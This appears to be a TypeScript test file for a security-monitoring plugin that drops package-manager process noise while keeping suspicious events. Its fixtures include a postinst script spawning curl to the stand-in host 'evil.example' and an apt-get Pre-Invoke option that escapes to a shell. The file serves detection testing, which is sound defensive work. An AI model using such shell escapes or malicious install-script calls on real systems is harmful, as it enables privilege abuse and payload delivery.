import assert from "node:assert/strict";
import { before, test } from "node:test";
import type { Event, Process } from "../../../host/events/model.js";
import type { PluginChain } from "../../../host/plugins/chain.js";
import { Scene } from "../../host/plugins/events.js";
import { chainOf, compileExample } from "../../host/plugins/testPlugin.js";

let chain: PluginChain;
before(async () => {
  chain = await chainOf([await compileExample("package-noise")]);
});

/** Exec and exit of each; returns the names of those whose events are kept, which must be both. */
function keptOf(scene: Scene, processes: readonly Process[]): string[] {
  const events: Event[] = [
    ...processes.map((process) => scene.exec(process)),
    ...processes.map((process) => scene.exit(process)),
  ];
  const kept = chain.run(events);
  const execs = kept.filter((event) => event.type === 5).map((event) => event.process);
  const exits = kept.filter((event) => event.type === 7).map((event) => event.process);
  assert.deepEqual(exits, execs);
  assert.ok(kept.every((event) => event.annotations === undefined));
  return execs.map((process) => `${process.binary} ${process.arguments}`.trim());
}

test("an apt upgrade leaves only what maintainer scripts start", () => {
  const scene = new Scene();
  const bash = scene.process("/bin/bash");
  const apt = scene.process("/usr/bin/apt-get", bash, { arguments: "-y upgrade" });
  const dpkg = scene.process("/usr/bin/dpkg", apt, { arguments: "--unpack x.deb" });
  const script = scene.process("/var/lib/dpkg/info/nginx.postinst", dpkg, {
    arguments: "configure",
  });
  const helper = scene.process("/usr/bin/deb-systemd-helper", script);
  const curl = scene.process("/usr/bin/curl", scene.process("/bin/sh", script), {
    arguments: "http://evil.example",
  });
  const kept = keptOf(scene, [
    bash,
    apt,
    scene.process("/usr/lib/apt/methods/http", apt),
    scene.process("/bin/sh", apt, { arguments: "-c 'test -x /usr/bin/apt-show-versions'" }),
    dpkg,
    scene.process("/usr/bin/dpkg-deb", dpkg),
    scene.process("/usr/bin/tar", dpkg),
    script,
    helper,
    scene.process("/usr/bin/rm", script),
    curl,
  ]);
  assert.deepEqual(kept, ["/bin/bash", "/usr/bin/curl http://evil.example"]);
});

test("the package managers of other distributions are noise too", () => {
  const scene = new Scene();
  const managers = ["/usr/bin/dnf", "/usr/bin/yum", "/usr/bin/rpm", "/sbin/apk", "/usr/bin/pacman"];
  const processes = managers.flatMap((binary) => {
    const manager = scene.process(binary);
    return [manager, scene.process("/usr/bin/gpg", manager)];
  });
  assert.deepEqual(keptOf(scene, processes), []);
});

test("language package managers are not noise", () => {
  const scene = new Scene();
  const npm = scene.process("/usr/bin/npm");
  const script = scene.process("/bin/sh", npm, { arguments: "-c 'node install.js'" });
  assert.equal(keptOf(scene, [npm, script, scene.process("/usr/bin/pip3")]).length, 3);
});

test("a program that only calls itself dpkg is kept, with what it starts", () => {
  const scene = new Scene();
  const fakes = [
    "/tmp/dpkg",
    "dpkg",
    "/usr/bin/x/dpkg",
    "/usr/bin/dpkgx",
    "/home/a/usr/bin/apt-get",
  ];
  const processes = fakes.flatMap((binary) => {
    const fake = scene.process(binary);
    return [fake, scene.process("/usr/bin/id", fake)];
  });
  assert.equal(keptOf(scene, processes).length, processes.length);
});

test("a shell with nothing to run is kept: somebody got out of the package manager", () => {
  const scene = new Scene();
  const apt = scene.process("/usr/bin/apt-get", undefined, {
    arguments: "update -o APT::Update::Pre-Invoke::=/bin/sh",
  });
  const kept = keptOf(scene, [
    scene.process("/bin/sh", apt, { arguments: "-c /bin/sh" }),
    scene.process("/bin/sh", apt),
    scene.process("/bin/bash", apt, { arguments: "-i" }),
    scene.process("/bin/bash", apt, { arguments: "/usr/share/script.sh start" }),
  ]);
  assert.deepEqual(kept, ["/bin/sh", "/bin/bash -i"]);
});
